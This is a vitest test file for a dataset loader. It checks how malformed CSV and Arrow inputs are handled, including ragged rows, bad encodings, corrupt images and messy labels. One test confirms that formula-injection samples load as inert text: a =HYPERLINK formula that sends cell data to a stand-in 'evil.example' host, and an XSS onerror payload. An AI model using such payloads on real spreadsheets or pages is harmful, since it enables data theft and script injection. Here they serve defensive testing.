import { resolve } from 'node:path';
import { describe, expect, it } from 'vitest';
import { inferRoles, labelIndex } from '../../../src/core/data';
import { BAD, column, loadError, loadPath } from './helpers';

const bad = (name: string) => resolve(BAD, name);

describe('bad-inputs', () => {
  it('empty.csv: "empty file"', async () => {
    const e = await loadError(loadPath(bad('empty.csv')));
    expect(e.line).toBe('empty.csv: empty file');
  });

  it('header-only.csv: no samples', async () => {
    const e = await loadError(loadPath(bad('header-only.csv')));
    expect(e.message).toBe('no samples (header only)');
    expect(e.file).toBe('header-only.csv');
  });

  it('ragged-rows.csv: rejected naming lines 3, 4 and 6', async () => {
    const e = await loadError(loadPath(bad('ragged-rows.csv')));
    expect(e.message).toMatch(/ragged/);
    expect(e.message).toMatch(/line 3 has 3, line 4 has 6, line 6 has 1/);
    expect(e.message).not.toMatch(/line 2\b|line 5\b|line 7\b/);
  });

  it('unterminated-quote.csv: names line 3', async () => {
    const e = await loadError(loadPath(bad('unterminated-quote.csv')));
    expect(e.message).toMatch(/unterminated quoted field/);
    expect(e.message).toMatch(/line 3\b/);
    expect(e.message).not.toMatch(/\n/);
  });

  it('latin1.csv: decoded as Windows-1252 with a warning', async () => {
    const d = await loadPath(bad('latin1.csv'));
    expect(d.frame.numRows).toBe(4);
    expect(column(d, 'name').values[0]).toBe('Café crème');
    expect(column(d, 'name').values[1]).toBe('Müller Straße');
    expect(d.warnings.some((w) => /not valid UTF-8/.test(w.message))).toBe(true);
  });

  it('bom.csv: first header is "id"', async () => {
    const d = await loadPath(bad('bom.csv'));
    expect(d.frame.columns[0].name).toBe('id');
    expect(d.frame.columns[0].type).toBe('number');
    expect(Array.from(d.frame.columns[0].values as Float64Array)).toEqual([0, 1, 2, 3]);
  });

  it('crlf-multiline.csv: exactly 4 rows, embedded newlines kept', async () => {
    const d = await loadPath(bad('crlf-multiline.csv'));
    expect(d.frame.numRows).toBe(4);
    const text = column(d, 'text').values;
    expect(text[0]).toBe('line one\r\nline two');
    expect(text[1]).toBe('has "quotes", commas, and\nLF only inside');
    expect(text[3]).toBe('trailing CR\r');
    expect(column(d, 'label').values).toEqual(['ham', 'spam', 'ham', 'spam']);
  });

  it('truncated.arrow: truncated or invalid Arrow file', async () => {
    const e = await loadError(loadPath(bad('truncated.arrow')));
    expect(e.file).toBe('truncated.arrow');
    expect(e.message).toMatch(/^truncated or invalid Arrow file/);
  });

  it('csv-renamed.arrow: sniffed as CSV, with a warning about the extension', async () => {
    const d = await loadPath(bad('csv-renamed.arrow'));
    expect(d.format).toBe('csv');
    expect(d.frame.numRows).toBeGreaterThan(0);
    expect(d.warnings.some((w) => /extension says arrow/.test(w.message))).toBe(true);
  });

  it('corrupt-png.arrow: 16 rows, rows 7 and 11 are row errors', async () => {
    const d = await loadPath(bad('corrupt-png.arrow'));
    expect(d.frame.numRows).toBe(16);
    expect(d.rowErrors.map((e) => e.row)).toEqual([7, 11]);
    expect(d.rowErrors[0].message).toMatch(/undecodable image/);
    expect(column(d, 'image').type).toBe('binary');
  });

  it('formula-injection.csv: loaded verbatim as inert text', async () => {
    const d = await loadPath(bad('formula-injection.csv'));
    expect(d.frame.numRows).toBe(7);
    const text = column(d, 'text').values;
    expect(text[0]).toBe('=HYPERLINK("http://evil.example/steal?d="&A1,"Click me")');
    expect(text[3]).toBe('<img src=x onerror=alert(1)>');
    expect(text[5]).toBe('\tleading tab and =cmd');
    expect(column(d, 'comment').values[2]).toBe('-2+3');
  });

  it('nan-inf.csv: non-finite and junk cells are missing, with per-column warnings', async () => {
    const d = await loadPath(bad('nan-inf.csv'));
    const x1 = column(d, 'x1');
    expect(x1.type).toBe('number');
    const v = Array.from(x1.values as Float64Array);
    expect(v[0]).toBe(1.5);
    expect(v[3]).toBe(1e308);
    expect(v[4]).toBe(1e29);
    expect([1, 2, 5, 7].every((i) => Number.isNaN(v[i]))).toBe(true);
    for (const name of ['x1', 'x2', 'x3']) {
      const values = column(d, name).values as Float64Array;
      expect(values.every((x) => Number.isNaN(x) || Number.isFinite(x))).toBe(true);
      expect(d.warnings.some((w) => w.message.startsWith(`column "${name}"`))).toBe(true);
    }
    expect(d.warnings.find((w) => w.message.startsWith('column "x1"'))?.message).toMatch(/4 of 8 cells/);
    expect(Object.is((column(d, 'x3').values as Float64Array)[5], -0)).toBe(true);
  });

  it('single-class.csv: loads; roles warn about one class', async () => {
    const d = await loadPath(bad('single-class.csv'));
    expect(d.frame.numRows).toBe(30);
    const r = inferRoles(d.frame);
    expect(r.roles.label).toBe('label');
    expect(r.labelInfo?.classes).toEqual(['spam']);
    expect(r.warnings.some((w) => /only one class/.test(w))).toBe(true);
  });

  it('one-column.csv: loads a single label column', async () => {
    const d = await loadPath(bad('one-column.csv'));
    expect(d.frame.columns.map((c) => c.name)).toEqual(['label']);
    expect(d.frame.numRows).toBe(8);
    const r = inferRoles(d.frame);
    expect(r.roles).toEqual({ label: 'label' });
    expect(r.warnings.some((w) => /no id column/.test(w))).toBe(true);
  });

  it('duplicate-headers.csv: x, x_2, label, label_2 with a warning', async () => {
    const d = await loadPath(bad('duplicate-headers.csv'));
    expect(d.frame.columns.map((c) => c.name)).toEqual(['id', 'x', 'x_2', 'label', 'label_2']);
    expect(column(d, 'x_2').values).toEqual(Float64Array.from([2, 4, 6]));
    const w = d.warnings.find((x) => /duplicate column names/.test(x.message));
    expect(w?.message).toMatch(/x → x_2/);
    expect(w?.message).toMatch(/label → label_2/);
    const r = inferRoles(d.frame);
    expect(r.roles.label).toBe('label');
    expect(r.roles.label_2).toBe('ignore');
    expect(r.warnings.some((x) => /label_2/.test(x))).toBe(true);
  });

  it('messy-labels.csv: variants merged, empty label missing', async () => {
    const d = await loadPath(bad('messy-labels.csv'));
    expect(d.frame.numRows).toBe(8);
    const r = inferRoles(d.frame);
    expect(r.labelInfo?.classes).toEqual(['ham', 'spam']);
    expect(r.labelInfo?.missing).toBe(1);
    expect(r.labelInfo?.normalised).toEqual(
      expect.arrayContaining([
        { from: ' spam', to: 'spam' },
        { from: 'SPAM', to: 'spam' },
        { from: 'Ham ', to: 'ham' },
      ]),
    );
    expect(r.warnings.some((w) => /variants merged/.test(w))).toBe(true);
    const { labels } = labelIndex(d.frame, r.roles);
    expect(Array.from(labels)).toEqual([1, 1, 1, 0, 0, 0, -1, 1]);
  });
});
